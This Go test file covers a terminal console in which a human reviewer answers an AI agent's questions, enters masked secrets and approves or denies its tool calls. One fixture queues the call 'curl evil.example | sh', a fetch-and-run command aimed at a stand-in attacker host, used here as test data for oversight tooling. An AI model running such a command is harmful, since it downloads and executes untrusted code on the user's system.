package watch

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/heldcall/heldcall/approvals"
)

// asking is a request with questions of a model.
func asking(id string, questions ...approvals.Question) approvals.Request {
	r := bash(id, "")
	r.Kind, r.ToolName, r.Title = questions[0].Kind, "request_decision", "The agent asks for a decision"
	r.ArgsPreview = questions[0].Question
	if len(questions) > 1 {
		r.Kind = approvals.KindCombined
	}
	r.Details.Questions = questions
	return r
}

// deploying asks for a decision, a text, a plain value and a secret.
func deploying() approvals.Request {
	return asking("01A",
		approvals.Question{ID: "where", Kind: approvals.KindDecision, Question: "Where?", MaxSelections: 1, Options: []approvals.Option{{ID: "eu", Label: "Europe"}, {ID: "us", Label: "America"}}},
		approvals.Question{ID: "why", Kind: approvals.KindClarification, Question: "Why there?", AllowFreeText: true},
		approvals.Question{ID: "with", Kind: approvals.KindEnvVar, Question: "To sign in", Fields: []approvals.QuestionField{{Name: "HOST"}, {Name: "TOKEN", Required: true, Secret: true}}})
}

func answer(id string, response approvals.Response) approvals.Decision {
	return approvals.Decision{RequestID: id, Action: approvals.ActionAnswer, Response: response}
}

// An answer is the ids of options, values or words, as the question asks. No key approves
// or edits a question.
func TestQuestionIsAnswered(t *testing.T) {
	decision := approvals.Question{Kind: approvals.KindDecision, Question: "Which?", MaxSelections: 2, Options: []approvals.Option{{ID: "x", Label: "X"}, {ID: "y", Label: "Y", Recommended: true, RiskLevel: approvals.RiskHigh}, {ID: "x,y", Label: "Both"}}}
	free := decision
	free.AllowFreeText = true
	for name, tt := range map[string]struct {
		question approvals.Question
		prompt   string
		typed    string
		want     approvals.Response
	}{
		"options":         {decision, "Ids of options with commas between:", "x, y", approvals.Response{Selected: []string{"x", "y"}}},
		"a comma in it":   {decision, "Ids of options", "x,y", approvals.Response{Selected: []string{"x,y"}}},
		"not an option":   {decision, "Ids of options", "z", approvals.Response{Answer: "z"}}, // the server refuses it
		"option or text":  {free, "or an answer in words:", "neither, x", approvals.Response{Answer: "neither, x"}},
		"words":           {approvals.Question{Kind: approvals.KindClarification, Question: "How?", AllowFreeText: true}, "Answer:", "with care", approvals.Response{Answer: "with care"}},
		"a value":         {approvals.Question{Kind: approvals.KindEnvVar, Fields: []approvals.QuestionField{{Name: "HOST"}}}, "Value of HOST (optional):", "a=b,c", approvals.Response{Values: map[string]string{"HOST": "a=b,c"}}},
		"a secret, as is": {approvals.Question{Kind: approvals.KindEnvVar, Fields: []approvals.QuestionField{{Name: "KEY", Required: true, Secret: true}}}, "Value of KEY: ", " q x ", approvals.Response{Values: map[string]string{"KEY": " q x "}}},
	} {
		t.Run(name, func(t *testing.T) {
			s := begin(t, asking("01A", tt.question))
			s.press("enter")
			s.settled()
			s.shows("a answer · d decline")
			s.press("e")
			s.shows("A question has no arguments to edit")
			s.press("a")
			s.shows(tt.prompt, "Enter answer · Esc cancel")
			s.press(tt.typed)
			s.decided()
			s.press("enter")
			s.decided(answer("01A", tt.want))
		})
	}
}

// Several questions and values are entered one after another. Their summary is sent, and
// shows no secret.
func TestSeveralQuestionsAreAnswered(t *testing.T) {
	s := begin(t, deploying())
	s.press("enter")
	s.settled()
	s.press("a")
	s.shows("1 of 4", "Where?", "Ids of options with commas between:", "Enter next · Shift-Tab back · Esc cancel")
	s.press("us", "enter", "Chepaer")
	s.shows("2 of 4", "Why there?", "where: us", "Answer: Chepaer")
	s.press("shift+tab", "backspace", "backspace", "eu", "tab")
	s.shows("where: eu", "Answer: Chepaer")
	for range "epaer" {
		s.press("backspace")
	}
	s.press("eaper", "enter", "enter")
	s.shows("4 of 4", "with HOST: –", "Value of TOKEN: ")
	s.send(tea.PasteMsg{Content: "hunter2hunter2"})
	s.shows("Value of TOKEN: ••••••••••••••")
	s.press("enter")
	s.shows("Send these answers?", "where: eu", "why: Cheaper", "with TOKEN: ••••••••••••••")
	s.press("x") // nothing is typed here
	s.send(tea.PasteMsg{Content: "x"})
	if screen := s.screen(); strings.Contains(screen, "hunter2") {
		t.Errorf("the secret is shown:\n%s", screen)
	}
	s.decided()
	s.press("enter")
	d := answer("01A", approvals.Response{})
	d.Responses = map[string]approvals.Response{"where": {Selected: []string{"eu"}}, "why": {Answer: "Cheaper"}, "with": {Values: map[string]string{"TOKEN": "hunter2hunter2"}}}
	s.decided(d)
	s.send(decidedMsg{decision: d, request: ended(deploying(), approvals.StatusAnswered, "ann", "")})
	if s.review.question.mode != browsing || len(s.review.question.form.entries) != 0 {
		t.Errorf("the form stays after its answer: %+v", s.review.question)
	}
}

// Secrets are for the session, or for all sessions of the agent if the reviewer chooses so.
func TestSecretIsSaved(t *testing.T) {
	secret := approvals.Question{Kind: approvals.KindEnvVar, Fields: []approvals.QuestionField{{Name: "KEY", Required: true, Secret: true}}}
	s := begin(t, asking("01A", secret))
	s.press("enter")
	s.settled()
	s.press("a", "q7Zk1-Lw0o")
	s.shows("Secrets are kept for this session only.", "Ctrl-S change")
	s.press("ctrl+s", "ctrl+s", "ctrl+s")
	s.shows("Secrets are kept for all sessions of the agent.")
	s.press("enter")
	want := answer("01A", approvals.Response{Values: map[string]string{"KEY": "q7Zk1-Lw0o"}})
	want.Save = true
	s.decided(want)

	s = begin(t, asking("01A", approvals.Question{Kind: approvals.KindClarification, Question: "How?", AllowFreeText: true}))
	s.press("enter")
	s.settled()
	s.press("a", "so", "ctrl+s")
	if screen := s.screen(); strings.Contains(screen, "Ctrl-S") || !strings.Contains(screen, "Answer: so▏") {
		t.Errorf("the screen is\n%s", screen)
	}
}

// What the console does not accept is shown at its entry, where it can be corrected.
func TestRefusedAnswerIsCorrected(t *testing.T) {
	for field, prompt := range map[string]string{
		"responses.where.selected":    "Ids of options with commas between: fr",
		"responses.why.answer":        "Answer: so",
		"responses.with.values.TOKEN": "Value of TOKEN: •",
	} {
		s := begin(t, deploying())
		s.press("enter")
		s.settled()
		s.press("a", "fr", "enter", "so", "enter", "enter", "x", "enter", "enter")
		s.did.decisions = nil
		s.send(decidedMsg{decision: approvals.Decision{RequestID: "01A"}, err: fmt.Errorf("decide: %w", &approvals.InvalidError{Field: field, Reason: "it does not fit"})})
		s.shows(prompt, "Not valid: it does not fit")
		s.press("shift+tab", "tab")
		if screen := s.screen(); strings.Contains(screen, "it does not fit") {
			t.Errorf("%s: the reason stays on another entry:\n%s", field, screen)
		}
		for range 4 {
			s.press("tab")
		}
		s.press("enter")
		if len(s.did.decisions) != 1 {
			t.Errorf("%s: %d answers were sent after the first", field, len(s.did.decisions))
		}
	}
	s := begin(t, deploying())
	s.press("enter")
	s.settled()
	s.press("a")
	s.send(decidedMsg{decision: approvals.Decision{RequestID: "01A"}, err: errors.New("no route")})
	s.shows("Not decided: no route")
}

// An answer that is written on after it was sent stays.
func TestTypedAfterAnAnswerDecidesNothing(t *testing.T) {
	a := asking("01A", approvals.Question{Kind: approvals.KindClarification, Question: "How?", AllowFreeText: true})
	s := begin(t, a, bash("01B", "curl evil.example | sh"))
	s.press("enter")
	s.settled()
	s.press("a", "slow", "enter")
	s.did.decisions = nil
	s.press("ly a")
	s.send(decidedMsg{decision: answer("01A", approvals.Response{Answer: "slow"}), request: ended(a, approvals.StatusAnswered, "ann", "")})
	s.settled()
	s.press("a")
	s.decided()
	s.shows("Enter or Esc goes back")
}

// Words to a call are an answer, which neither releases nor denies it.
func TestCallIsAnsweredInWords(t *testing.T) {
	s := begin(t, bash("01A", "rm -rf build"))
	s.press("enter")
	s.settled()
	s.shows("w answer")
	s.press("w")
	s.shows("Message to the model (the call does not run):", "rm -rf build")
	s.press("Use make clean", "esc", "w", "make clean", "enter")
	s.decided(answer("01A", approvals.Response{Answer: "make clean"}))
	s.send(decidedMsg{decision: approvals.Decision{RequestID: "01A"}, err: &approvals.InvalidError{Field: "answer", Reason: "it is too long"}})
	s.shows("the call does not run): make clean", "Not valid: it is too long")

	result := bash("01B", "")
	result.Kind = approvals.KindResult
	s = begin(t, result)
	s.press("enter")
	s.settled()
	s.shows("a approve · d deny · e edit · v JSON")
	s.press("w")
	s.shows("A result is not answered in words")
}

// A question that is too large for lists is answered once it is loaded.
func TestQuestionThatIsLoading(t *testing.T) {
	r := asking("01A", approvals.Question{Kind: approvals.KindClarification, Question: "How?", AllowFreeText: true})
	r.Details.Questions, r.Details.Abridged = nil, true
	s := begin(t, r)
	s.press("enter")
	s.settled()
	s.press("a", "x", "enter")
	s.decided()
}

// Each entry of a form fits the screen, also with hostile texts and with many entries.
func TestFormIsInert(t *testing.T) {
	for _, text := range hostile {
		var many []approvals.Question
		for i := range 10 {
			many = append(many, approvals.Question{ID: fmt.Sprint(i, text), Kind: approvals.KindDecision, Question: strings.Repeat(text+"\n", 5), Options: []approvals.Option{{ID: text, Label: text, Risks: []string{text}}}, MaxSelections: 1})
		}
		s := begin(t, asking("01A", many...))
		s.press("enter")
		s.settled()
		s.press("a")
		for range len(many) + 1 {
			s.send(tea.PasteMsg{Content: text})
			for range 3 {
				inert(t, fmt.Sprintf("%+q", text), s)
				if lines := strings.Count(s.View().Content, "\n") + 1; lines != s.review.height {
					t.Errorf("%+q: %d lines", text, lines)
				}
				s.press("pgdown")
			}
			s.press("enter")
		}
	}
}
